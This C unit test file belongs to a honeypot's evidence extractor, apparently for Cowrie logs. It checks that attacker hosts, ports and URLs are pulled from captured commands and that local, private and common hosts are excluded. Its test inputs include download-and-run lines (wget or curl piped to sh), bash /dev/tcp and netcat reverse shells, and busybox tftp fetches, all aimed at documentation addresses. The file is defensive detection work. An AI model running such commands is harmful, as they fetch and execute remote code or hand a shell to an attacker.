/* Where commands and URLs point to, and what must never become evidence. */
#include <criterion/criterion.h>
#include <string.h>

#include "base/limits.h"
#include "ingest/evidence.h"

static Arena *arena;

static void setup(void)
{
    arena = arena_new();
}

static void teardown(void)
{
    arena_free(arena);
}

TestSuite(cowrie_evidence, .init = setup, .fini = teardown, .timeout = 30);

/* "c2 host:port url …" in order of appearance. */
static const char *found(const EvidencePlaces *p)
{
    cleanup(buf_free) Buf out = {0};

    for (size_t i = 0; i < p->n; i++) {
        if (i)
            buf_add_char(&out, ' ');
        buf_add_str(&out, p->items[i].value);
    }
    return arena_memdup(arena, buf_str(&out).data, out.len);
}

static const char *in_command(const char *command)
{
    EvidencePlaces *p = arena_calloc(arena, 1, sizeof(*p));
    evidence_from_command(arena, str_from(command), STR("192.0.2.10"), p);
    return found(p);
}

static const char *in_url(const char *url)
{
    EvidencePlaces *p = arena_calloc(arena, 1, sizeof(*p));
    evidence_from_url(arena, str_from(url), STR("192.0.2.10"), p);
    return found(p);
}

typedef struct Case {
    const char *in, *want;
} Case;

Test(cowrie_evidence, urls)
{
    static const Case rows[] = {
        {"http://203.0.113.80/x.sh", "203.0.113.80:80 http://203.0.113.80/x.sh"},
        {"https://203.0.113.80:8443/a?q=1#f", "203.0.113.80:8443 https://203.0.113.80:8443/a"},
        {"HTTP://Dl.Example.ORG/X", "dl.example.org:80 HTTP://Dl.Example.ORG/X"},
        {"ftp://203.0.113.80", "203.0.113.80:21 ftp://203.0.113.80"},
        {"tftp://203.0.113.80:69/shr", "203.0.113.80:69 tftp://203.0.113.80:69/shr"},
        {"http://[2001:DB8::1]:81/x", "[2001:db8::1]:81 http://[2001:DB8::1]:81/x"},
        {"https://[2001:db8::1]/x", "[2001:db8::1]:443 https://[2001:db8::1]/x"},
        {"http://user:pw@203.0.113.80/x", "203.0.113.80:80 http://user:pw@203.0.113.80/x"},
        {"http://dl.example.org./x", "dl.example.org:80 http://dl.example.org./x"},
        {"http://203.0.113.80:/x", "203.0.113.80:80 http://203.0.113.80:/x"},
        {"", ""},
        {"/dev/null", ""},
        {"http://", ""},
        {"http:///x", ""},
        {"http://203.0.113.80:0/x", ""},
        {"http://203.0.113.80:99999/x", ""},
        {"http://203.0.113.80:8o/x", ""},
        {"http://localhost/x", ""},
        {"http://printer.local/x", ""},
        {"http://127.0.0.1/x", ""},
        {"http://10.1.2.3/x", ""},
        {"http://[::1]/x", ""},
        {"http://192.0.2.10/x", ""}, /* the sensor itself */
        {"http://[::ffff:192.0.2.10]/x", ""},
        {"http://0x7f.1/x", ""},
        {"http://3405803856/x", ""},
        {"http://%32%30%33.example.org/x", ""},
        {"http://a..b.org/x", ""},
        {"http://[2001:db8::1/x", ""},
        {"gopher://203.0.113.80/x", ""},
        {"https://raw.githubusercontent.com/a/b/x.sh", ""},
        {"http://archive.ubuntu.com/x", ""},
        {"http://ipinfo.io/org", ""},
        {"http://notgithub.com/x", "notgithub.com:80 http://notgithub.com/x"},
    };

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
        cr_assert_str_eq(in_url(rows[i].in), rows[i].want, "%s gives %s", rows[i].in, in_url(rows[i].in));
}

Test(cowrie_evidence, commands)
{
    static const Case rows[] = {
        {"cd /tmp; wget http://203.0.113.80/x.sh; sh x.sh", "203.0.113.80:80 http://203.0.113.80/x.sh"},
        {"curl -s 'http://203.0.113.80/a?b' | sh", "203.0.113.80:80 http://203.0.113.80/a"},
        {"(curl http://203.0.113.80/a||wget http://203.0.113.80/a)", "203.0.113.80:80 http://203.0.113.80/a"},
        {"wget http://203.0.113.80:81/a http://203.0.113.81/b>/dev/null",
         "203.0.113.80:81 http://203.0.113.80:81/a 203.0.113.81:80 http://203.0.113.81/b"},
        {"u=\"http://203.0.113.80/$(uname -m)\"", "203.0.113.80:80"},
        {"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "203.0.113.9:4444"},
        {"exec 5<>/dev/udp/c2.example.org/53", "c2.example.org:53"},
        {"cat </dev/tcp/203.0.113.9", ""},
        {"cat </dev/tcp//80", ""},
        {"echo /dev/tcp/10.0.0.5/4444", ""},
        {"tftp -g -r x 203.0.113.7", "203.0.113.7:69"},
        {"tftp 203.0.113.7 -c get x; cat x", "203.0.113.7:69"},
        {"/bin/busybox tftp -g -l - -r x 203.0.113.7", "203.0.113.7:69"},
        {"busybox ftpget -u anonymous 203.0.113.7 a b", "203.0.113.7:21"},
        {"nc 203.0.113.7 4444 -e /bin/sh", "203.0.113.7:4444"},
        {"sudo ncat --ssl 203.0.113.7 443", "203.0.113.7:443"},
        {"nc -lvp 4444", ""},
        {"nc 203.0.113.7", ""},
        {"nc 203.0.113.7 203.0.113.8 4444", ""}, /* two addresses: ambiguous */
        {"tftp x", ""},
        {"ping 203.0.113.7", ""},
        {"echo nc 203.0.113.7 4444", ""},
        {"xhttp://203.0.113.80/x", ""},
        {"echo \\x68\\x74tp", ""},
        {"", ""},
    };

    for (size_t i = 0; i < ARRAY_SIZE(rows); i++)
        cr_assert_str_eq(in_command(rows[i].in), rows[i].want, "%s gives %s", rows[i].in, in_command(rows[i].in));
}

Test(cowrie_evidence, long_urls_are_clipped_and_many_are_bounded)
{
    EvidencePlaces *p = arena_calloc(arena, 1, sizeof(*p));
    cleanup(buf_free) Buf text = {0};

    buf_add(&text, "http://203.0.113.80/");
    while (text.len < 3 * LIMIT_URL_BYTES)
        buf_add(&text, "abcdefgh");
    evidence_from_url(arena, buf_str(&text), (Str){0}, p);
    cr_assert_eq(p->n, 2);
    cr_assert_eq(p->items[1].value.len, LIMIT_URL_BYTES);

    buf_clear(&text);
    for (int i = 0; i < 300; i++)
        buf_printf(&text, "wget http://203.0.113.%d/%d;", i % 250, i);
    p->n = p->n_dropped = 0;
    evidence_from_command(arena, buf_str(&text), (Str){0}, p);
    cr_assert_eq(p->n, 2 * EVIDENCE_URLS_MAX);
    cr_assert_gt(p->n_dropped, 0);
}

Test(cowrie_evidence, stop_list_takes_subdomains_only)
{
    cr_assert(evidence_host_is_common(STR("github.com")));
    cr_assert(evidence_host_is_common(STR("raw.github.com")));
    cr_assert_not(evidence_host_is_common(STR("mygithub.com")));
    cr_assert_not(evidence_host_is_common(STR("github.com.example.org")));
    cr_assert_not(evidence_host_is_common(STR("com")));
}
